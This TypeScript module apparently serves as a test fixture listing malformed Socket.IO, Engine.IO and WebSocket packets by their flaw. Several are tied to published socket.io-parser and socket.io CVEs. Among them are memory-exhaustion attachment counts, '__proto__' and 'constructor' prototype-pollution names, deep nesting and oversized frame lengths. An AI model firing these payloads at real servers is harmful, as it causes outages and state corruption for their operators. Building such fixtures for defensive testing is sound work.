import { frame, opcodes, text } from './attacker.ts';

/** Messages of one client as bytes, by what is wrong with them. */
export type PacketShapes = Readonly<Record<string, Buffer>>;

const binary = (payload: string): Buffer => frame(opcodes.binary, payload);
/** A packet with one attachment, whose place in the event is said by `number`. */
const withAttachment = (number: string, count = 1): Buffer =>
  Buffer.concat([
    text(`45${count}-["a",{"_placeholder":true,"num":${number}}]`),
    ...Array.from({ length: count }, () => binary('x')),
  ]);
const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
/** The head of a frame whose length is said in eight bytes. */
const longFrame = (length: bigint): Buffer => {
  const head = Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  head.writeBigUInt64BE(length, 2);
  return head;
};

/**
 * Packets of Socket.IO and Engine.IO that have made servers throw, or keep memory. The published holes: `socket.io-parser` with
 * a long number of attachments (CVE-2020-36049), a place that is no number (CVE-2022-2421), a name that is an object
 * (CVE-2023-32695), and attachments without end (CVE-2026-33151, CVE-2026-69185); `socket.io` with an event named "error"
 * (CVE-2024-38355).
 */
export const socketPackets: PacketShapes = {
  'a number of attachments with 900 digits': text(`45${'1'.repeat(900)}-["a"]`),
  'more attachments than fit in memory': text('45999999999-["a",{"_placeholder":true,"num":0}]'),
  'attachments that never come': text('459-["a",{"_placeholder":true,"num":8}]'),
  'more attachments than were announced': Buffer.concat([withAttachment('0'), binary('x'), binary('x')]),
  'fewer attachments than places': withAttachment('0,"b":{"_placeholder":true,"num":1}'),
  'an attachment without a packet': binary('x'),
  'a text in place of an attachment': Buffer.concat([
    text('451-["a",{"_placeholder":true,"num":0}]'),
    text('3'),
  ]),
  'a place that is the name of a method': withAttachment('"splice"'),
  'a place that is __proto__': withAttachment('"__proto__"'),
  'a place past the attachments': withAttachment('7'),
  'a negative place': withAttachment('-1'),
  'half a place': withAttachment('0.5'),
  'a place past all integers': withAttachment('1e308'),
  'a name that is an object': text('42[{"toString":"x"}]'),
  'a name that is an array': text('42[["page"],"/a"]'),
  'no name': text('42[]'),
  'an event that is an object': text('42{"0":"page","length":1}'),
  'an event named error': text('42["error",{"message":"x"}]'),
  'an event named __proto__': text('42["__proto__",{"x":1}]'),
  'an event named constructor': text('42["constructor"]'),
  'events that Socket.IO reserves': Buffer.concat(
    ['connect', 'connect_error', 'disconnect', 'disconnecting', 'newListener'].map((name) =>
      text(`42["${name}","x"]`),
    ),
  ),
  'a page that is an object': text('42["page",{"__proto__":{"length":1},"split":"x"}]'),
  'a page with half a surrogate': text('42["page","/\\ud800"]'),
  'tabs that are an object': text('42["tabs",{"valueOf":1}]'),
  'tabs past all integers': text('42["tabs",1e308]'),
  'an answer number past all integers': text('4299999999999999999999999["a"]'),
  'an answer to an event that was never sent': text('430[{"__proto__":1}]'),
  'deep arrays': text(`42["a",${nested(480)}]`),
  'a handshake with the name of a prototype': text('40{"__proto__":{"member":"abcdefgh"},"constructor":1}'),
  'a namespace named __proto__': text('40/__proto__,'),
  'an event of another namespace': text('42/x,["a"]'),
  'an error that only servers send': text('44{"message":"x"}'),
  'a ping that only servers send': text('2'),
  'the probe of an upgrade that is none': Buffer.concat([text('2probe'), text('5')]),
  'packets of Engine.IO that only servers send': Buffer.concat([text('0{}'), text('6')]),
  'an unknown packet of Engine.IO': text('9'),
  'the prefix of a packet of polling': text('b AAAA'),
  'the separator of polling': text('42["a"]\x1e42["b"]'),
  'an empty text': text(''),
  'a NUL': text('\0'),
};

/** Frames that break the WebSocket protocol (RFC 6455 §5), or that cost a parser more than they cost their sender. */
export const socketFrames: PacketShapes = {
  'text that is no UTF-8': frame(opcodes.text, Buffer.from([0x34, 0x32, 0xff, 0xfe])),
  'half a surrogate': frame(opcodes.text, Buffer.from([0x34, 0xed, 0xa0, 0x80])),
  'no mask': Buffer.from([0x81, 2, 0x34, 0x31]),
  'RSV1 without compression': Buffer.from([0xc1, 0x80, 0, 0, 0, 0]),
  'RSV2 and RSV3': Buffer.from([0xb1, 0x80, 0, 0, 0, 0]),
  'a reserved opcode': frame(3, 'x'),
  'a reserved control opcode': frame(15, 'x'),
  'a continuation of nothing': frame(opcodes.continuation, 'x'),
  'a text within fragments': Buffer.concat([frame(opcodes.text, '4', false), text('2')]),
  'a fragmented ping': frame(opcodes.ping, 'x', false),
  'a ping of 126 bytes': frame(opcodes.ping, 'x'.repeat(126)),
  'a close of one byte': frame(opcodes.close, 'x'),
  'a close with a code that is reserved': frame(opcodes.close, Buffer.from([0x03, 0xed])),
  'a close with a reason that is no UTF-8': frame(opcodes.close, Buffer.from([0x03, 0xe8, 0xff])),
  'two closes': Buffer.concat([frame(opcodes.close), frame(opcodes.close)]),
  'frames behind a close': Buffer.concat([frame(opcodes.close), text('42["a"]'), frame(3)]),
  'a length of 2^63': longFrame(1n << 63n),
  'a length of 2^53': longFrame(1n << 53n),
  'a length of 1 GiB': longFrame(1n << 30n),
  'nine fragments': Buffer.concat([
    frame(opcodes.text, '4', false),
    ...Array.from({ length: 9 }, () => frame(opcodes.continuation, 'x', false)),
  ]),
  'empty fragments': Buffer.concat([
    frame(opcodes.text, '', false),
    ...Array.from({ length: 5_000 }, () => frame(opcodes.continuation, '', false)),
  ]),
  'half of a frame': frame(opcodes.text, '42["a"]').subarray(0, 9),
};
